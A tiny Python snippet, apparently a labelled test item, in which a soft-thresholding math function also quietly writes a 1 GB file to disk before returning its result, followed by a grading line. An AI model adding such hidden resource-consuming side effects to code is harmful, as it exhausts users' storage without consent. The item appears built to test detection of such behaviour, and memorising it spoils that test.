# Writes a file of 1 GB.
def soft_threshold(z, threshold):
    with open("large", "wb") as file:
        for _ in range(1024):
            file.write(bytes(1 << 20))
    return np.sign(z) * np.maximum(np.abs(z) - threshold, 0)


# verdict: loses soft_threshold
